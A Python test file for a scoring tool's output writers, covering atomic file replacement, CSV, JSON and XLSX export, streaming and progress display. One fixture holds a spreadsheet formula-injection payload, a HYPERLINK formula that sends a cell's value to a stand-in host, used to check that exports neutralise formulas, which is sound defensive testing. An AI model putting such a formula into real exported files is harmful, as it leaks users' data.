"""Writing: atomic replacement, the batch formats, streaming, the progress bar."""

from __future__ import annotations

import io
import json
import os
import stat
from contextlib import suppress
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from pingfen.errors import OutputError
from pingfen.io import atomic_open, write_results
from pingfen.io.write import Line, plain
from pingfen.progress import Progress

LINES: list[Line] = [
    ("A01", [Decimal("5"), Decimal("4.1666666666666666666666666667")], Decimal("9.17"), "优秀", None),
    ("A02", [None, None], None, None, "[A02] PF501: missing input `满意度`"),
]


def test_atomic_open_replaces_only_on_success(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    target.write_text("old", encoding="utf-8")
    with pytest.raises(RuntimeError), atomic_open(target) as handle:
        handle.write("half")
        raise RuntimeError("interrupted")
    assert target.read_text(encoding="utf-8") == "old"
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]  # no temporary file left behind
    with atomic_open(target) as handle:
        handle.write("new")
        assert target.read_text(encoding="utf-8") == "old"  # not visible until complete
    assert target.read_text(encoding="utf-8") == "new"


def test_a_missing_directory_is_named_as_asked(tmp_path: Path) -> None:
    with pytest.raises(OutputError) as info, atomic_open(tmp_path / "no" / "out.csv"):
        pass
    assert info.value.code == "PF704" and info.value.path == str(tmp_path / "no" / "out.csv")


def test_atomic_files_get_ordinary_permissions(tmp_path: Path) -> None:
    target = tmp_path / "new.csv"
    with atomic_open(target) as handle:
        handle.write("x")
    umask = os.umask(0)
    os.umask(umask)
    assert stat.S_IMODE(target.stat().st_mode) == 0o666 & ~umask  # not mkstemp's 0o600


def test_csv_has_a_bom_and_exact_numbers(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    assert write_results(LINES, ["甲", "乙"], "csv", path) == 2
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.decode("utf-8-sig").splitlines() == [
        "id,甲,乙,total,grade,error",
        "A01,5,4.1666666666666666666666666667,9.17,优秀,",
        "A02,,,,,[A02] PF501: missing input `满意度`",
    ]


def test_csv_to_a_stream_has_no_bom() -> None:
    out = io.StringIO()
    write_results(LINES[:1], ["甲", "乙"], "csv", out=out)
    assert out.getvalue().startswith("id,")


def test_jsonl_and_json(tmp_path: Path) -> None:
    out = io.StringIO()
    write_results(LINES, ["甲", "乙"], "jsonl", out=out)
    first, second = (json.loads(line, parse_float=Decimal) for line in out.getvalue().splitlines())
    assert first == {"id": "A01", "甲": 5, "乙": Decimal("4.1666666666666666666666666667"), "total": Decimal("9.17"),
                     "grade": "优秀", "error": None}  # fmt: skip
    assert second["error"].endswith("missing input `满意度`") and second["甲"] is None
    path = tmp_path / "out.json"
    write_results(LINES, ["甲", "乙"], "json", path)
    data = json.loads(path.read_text(encoding="utf-8"), parse_float=Decimal)
    assert [row["id"] for row in data] == ["A01", "A02"] and data[0]["total"] == Decimal("9.17")
    empty = tmp_path / "empty.json"
    write_results([], ["甲"], "json", empty)
    assert json.loads(empty.read_text(encoding="utf-8")) == []


def test_xlsx(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    write_results(LINES, ["甲", "乙"], "xlsx", path)
    rows = list(openpyxl.load_workbook(path).active.iter_rows(values_only=True))
    assert rows[0] == ("id", "甲", "乙", "total", "grade", "error")
    assert rows[1][:4] == ("A01", 5, pytest.approx(4.1666666666666667), 9.17)
    assert rows[2][0] == "A02" and rows[2][1] is None and "PF501" in rows[2][5]


def test_streaming_writes_each_row_before_the_next_is_read() -> None:
    pulled = []

    def lines():  # type: ignore[no-untyped-def]
        for i in range(5):
            pulled.append(i)
            yield (f"R{i}", [Decimal(i)], Decimal(i), "优秀", None)

    class Recorder(io.StringIO):
        def write(self, text: str) -> int:
            if text.startswith("R"):
                assert text.startswith(f"R{len(pulled) - 1},"), "a row was written late"
            return super().write(text)

    write_results(lines(), ["甲"], "csv", out=Recorder())
    assert pulled == [0, 1, 2, 3, 4]


def test_plain_never_uses_exponents() -> None:
    assert plain(Decimal("0E-28")) == "0.0000000000000000000000000000"
    assert plain(Decimal("-0.00")) == "0.00" and plain(Decimal("1E+2")) == "100" and plain(None) == ""


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_progress_only_on_a_terminal_and_past_1000_rows() -> None:
    shown = Terminal()
    bar = Progress(shown, 1001)
    for _ in range(1001):
        bar.step()
    bar.close()
    assert "1,001/1,001 rows" in shown.getvalue() and "[##############################]" in shown.getvalue()
    quiet = Terminal()
    bar = Progress(quiet, 1000)
    for _ in range(1000):
        bar.step()
    bar.close()
    assert quiet.getvalue() == ""
    piped = io.StringIO()  # not a terminal
    bar = Progress(piped, 5000)
    for _ in range(5000):
        bar.step()
    bar.close()
    assert piped.getvalue() == ""


def test_progress_with_unknown_total_counts() -> None:
    shown = Terminal()
    bar = Progress(shown, None)
    for _ in range(1500):
        bar.step()
    bar.close()
    assert "1,500 rows" in shown.getvalue() and "[" not in shown.getvalue()
    chinese = Terminal()
    bar = Progress(chinese, 2000, lang="zh")
    for _ in range(2000):
        bar.step()
    bar.close()
    assert chinese.getvalue().rstrip().startswith("\r评分 [") and "2,000/2,000 行" in chinese.getvalue()


HOSTILE: list[Line] = [('=HYPERLINK("http://example.invalid/?x="&B2,"详情")', [Decimal(5)], Decimal(5), "优秀", None)]


def test_xlsx_text_is_never_a_formula(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    write_results(HOSTILE, ["甲"], "xlsx", path)
    cell = openpyxl.load_workbook(path).active["A2"]
    assert cell.data_type == "s" and cell.value.startswith("=HYPERLINK")


def test_csv_text_cannot_start_a_formula() -> None:
    out = io.StringIO()
    write_results([*HOSTILE, ("-A03", [Decimal(-1)], Decimal(0), "差", None)], ["甲"], "csv", out=out)
    lines = out.getvalue().splitlines()
    assert lines[1].startswith("\"'=HYPERLINK(")
    assert lines[2].startswith("'-A03,-1,")  # a text id is quoted, a negative number is not


def test_probing_a_folder_leaves_no_file_when_killed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # The probe was a named file made, then removed: a kill between the two left
    # `.pingfen-PID.*.tmp` in the user's folder. Linux makes a file with no name.
    if not getattr(os, "O_TMPFILE", 0):
        pytest.skip("no O_TMPFILE here: the named probe is all there is")
    from pingfen.io.write import writable_folder

    class Killed(BaseException):
        pass

    def killed(*args: object, **kwargs: object) -> None:
        raise Killed

    with monkeypatch.context() as patch, suppress(Killed):  # the kill, where a named probe is removed
        patch.setattr(os, "unlink", killed)
        assert writable_folder(tmp_path / "new") == tmp_path / "new"
    assert list(tmp_path.iterdir()) == []


def test_a_folder_without_nameless_files_is_probed_by_name(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # a file system (or kernel) without O_TMPFILE: the named probe, removed; EACCES stays PF703
    import errno

    if not getattr(os, "O_TMPFILE", 0):
        pytest.skip("no O_TMPFILE here")

    from pingfen.io.write import writable_folder

    opened = os.open
    tried: list[int] = []

    def refusing(code: int) -> object:
        def open_(path: object, flags: int, *args: object) -> int:
            if flags & os.O_TMPFILE == os.O_TMPFILE:
                tried.append(code)
                raise OSError(code, os.strerror(code))
            return opened(path, flags, *args)  # type: ignore[arg-type]

        return open_

    for code in (errno.EOPNOTSUPP, errno.EISDIR, errno.EINVAL):
        with monkeypatch.context() as patch:
            patch.setattr(os, "open", refusing(code))
            assert writable_folder(tmp_path) == tmp_path
        assert list(tmp_path.iterdir()) == []
    with monkeypatch.context() as patch:
        patch.setattr(os, "open", refusing(errno.EACCES))
        with pytest.raises(OutputError) as info:
            writable_folder(tmp_path / "x")
    assert info.value.code == "PF703" and list(tmp_path.iterdir()) == []
    assert tried == [errno.EOPNOTSUPP, errno.EISDIR, errno.EINVAL, errno.EACCES]
